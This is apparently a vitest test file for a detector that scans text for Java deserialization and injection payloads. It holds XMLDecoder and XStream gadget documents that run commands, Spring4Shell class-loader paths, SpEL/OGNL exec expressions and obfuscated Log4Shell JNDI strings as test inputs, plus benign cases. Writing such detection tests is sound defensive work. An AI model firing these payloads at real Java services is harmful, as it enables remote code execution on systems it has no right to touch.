/** Text gadgets: XMLDecoder, XStream, class-loader paths, EL calls, Log4Shell; benign text stays clean. */
import { describe, expect, it } from 'vitest';
import { javaTextDetector } from '../../../src/engine/detectors/java/detector.js';
import { rules, runDetector } from './helpers.js';

function scan(text: string) {
  return runDetector(javaTextDetector, Buffer.from(text, 'utf8'), 'block');
}

const XMLDECODER = `<?xml version="1.0" encoding="UTF-8"?>
<java version="1.8.0_151" class="java.beans.XMLDecoder">
  <object class="java.lang.ProcessBuilder">
    <array class="java.lang.String" length="3">
      <void index="0"><string>/bin/sh</string></void>
      <void index="1"><string>-c</string></void>
      <void index="2"><string>id</string></void>
    </array>
    <void method="start"/>
  </object>
</java>`;

describe('XMLDecoder', () => {
  it('flags the ProcessBuilder document', () => {
    const f = scan(XMLDECODER);
    expect(rules(f)).toEqual(['DW-JAVA-010', 'DW-JAVA-011']);
    expect(f.find((x) => x.rule === 'DW-JAVA-010')?.message).toContain('java.lang.ProcessBuilder');
  });

  it('flags Runtime via <object method> and <void class>, also without a class attribute on <java>', () => {
    const doc = '<java><object class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>id</string></void></object></java>';
    expect(rules(scan(doc))).toEqual(['DW-JAVA-010', 'DW-JAVA-011']);
    const wls = "<work:WorkContext><java><void class='java.lang.ProcessBuilder'><array class='java.lang.String' length='1'><void index='0'><string>id</string></void></array><void method='start'/></void></java></work:WorkContext>";
    expect(rules(scan(wls))).toContain('DW-JAVA-010');
  });

  it('flags an XMLDecoder document with unknown classes and dangerous methods', () => {
    const doc = '<java class="java.beans.XMLDecoder"><object class="com.acme.Loader"><void method="loadClass"><string>x</string></void></object></java>';
    expect(rules(scan(doc))).toEqual(['DW-JAVA-011']);
  });

  it('flags a JNDI lookup via <new class>', () => {
    expect(rules(scan('<java><new class="javax.naming.InitialContext"><void method="lookup"><string>ldap://x/a</string></void></new></java>'))).toContain('DW-JAVA-010');
  });

  it('reads JSON-escaped attributes in the raw JSON layer', () => {
    const json = JSON.stringify({ xml: XMLDECODER });
    expect(rules(scan(json))).toContain('DW-JAVA-010');
  });
});

describe('XStream', () => {
  it('flags dynamic-proxy with EventHandler and ProcessBuilder', () => {
    const doc = `<sorted-set>
  <string>foo</string>
  <dynamic-proxy>
    <interface>java.lang.Comparable</interface>
    <handler class="java.beans.EventHandler">
      <target class="java.lang.ProcessBuilder"><command><string>calc</string></command></target>
      <action>start</action>
    </handler>
  </dynamic-proxy>
</sorted-set>`;
    const f = scan(doc);
    expect(rules(f)).toEqual(['DW-JAVA-012']);
    expect(f.map((x) => x.message).join(' ')).toContain('java.beans.EventHandler');
    expect(f.map((x) => x.message).join(' ')).toContain('java.lang.ProcessBuilder');
  });

  it('flags elements named after gadget classes, with XStream name escapes', () => {
    expect(rules(scan('<map><entry><jdk.nashorn.internal.objects.NativeString><value/></jdk.nashorn.internal.objects.NativeString></entry></map>'))).toEqual(['DW-JAVA-012']);
    expect(rules(scan('<javax.imageio.ImageIO_-ContainsFilter><method>x</method></javax.imageio.ImageIO_-ContainsFilter>'))).toEqual(['DW-JAVA-012']);
    expect(rules(scan('<com.sun.rowset.JdbcRowSetImpl serialization="custom"/>'))).toEqual(['DW-JAVA-012']);
  });
});

describe('class-loader property paths (Spring4Shell)', () => {
  it('flags class.module.classLoader and class.classLoader paths', () => {
    expect(rules(scan('class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di'))).toEqual(['DW-JAVA-013']);
    expect(rules(scan('user.class.classLoader.URLs[0]=jar:http://x/a.jar!/'))).toEqual(['DW-JAVA-013']);
    expect(rules(scan("class['classLoader']['resources']=x"))).toEqual(['DW-JAVA-013']);
    expect(rules(scan('class["module"]["classLoader"].parent=x'))).toEqual(['DW-JAVA-013']);
  });

  it('ignores prose and method calls', () => {
    expect(scan('Call getClass().getClassLoader() to find resources.')).toEqual([]);
    expect(scan('the subclass.classLoader field')).toEqual([]);
    expect(scan('We discussed the class.classLoader attack in the talk')).toEqual([]);
  });
});

describe('expression language and Log4Shell', () => {
  it('flags SpEL, OGNL and constructor calls on dangerous classes', () => {
    expect(rules(scan('spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("id")'))).toEqual(['DW-JAVA-014']);
    expect(rules(scan('T( java.lang.Runtime ).getRuntime()'))).toEqual(['DW-JAVA-014']);
    expect(rules(scan('%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec("id"))}'))).toEqual(['DW-JAVA-014']);
    expect(rules(scan('${new java.lang.ProcessBuilder("id").start()}'))).toEqual(['DW-JAVA-014']);
  });

  it('ignores mentions of the classes in prose', () => {
    expect(scan('java.lang.Runtime and java.lang.ProcessBuilder are classic sinks; java.lang.RuntimeException is not.')).toEqual([]);
  });

  it('resolves Log4j lookup obfuscation', () => {
    for (const s of ['${jndi:ldap://x.example/a}', '${${lower:j}ndi:ldap://x/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}', '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}', '${${upper:J}NDI:dns://x}', "${${date:'j'}${date:'n'}di:ldap://x}"]) {
      expect(rules(scan(`User-Agent: ${s}`)), s).toEqual(['DW-JAVA-015']);
    }
  });

  it('keeps request data out of the message', () => {
    const f = scan('${jndi:ldap://secret-host.example/a}');
    expect(f[0]?.message).toContain('ldap');
    expect(f[0]?.message).not.toContain('secret-host');
  });

  it('leaves template placeholders alone', () => {
    expect(scan('const s = `${user.name} has ${count} items`; ${jndix} ${lower:x}')).toEqual([]);
  });
});

describe('benign text', () => {
  it('does not flag HTML, CSS classes or prose about serialization', () => {
    const html = '<html><body><object class="video-player DataSource" data="movie.mp4"></object><div class="java.beans">x</div><p>The talk covered ObjectInputStream filters (JEP 290), java.beans.XMLDecoder and how ysoserial gadget chains such as CommonsCollections work.</p></body></html>';
    expect(scan(html)).toEqual([]);
    expect(scan('<config><system type="object" class="serial">User admin</system><stream>pickle</stream></config>')).toEqual([]);
    expect(scan('<java.util.HashMap><entry><string>a</string><int>1</int></entry></java.util.HashMap>')).toEqual([]);
  });
});
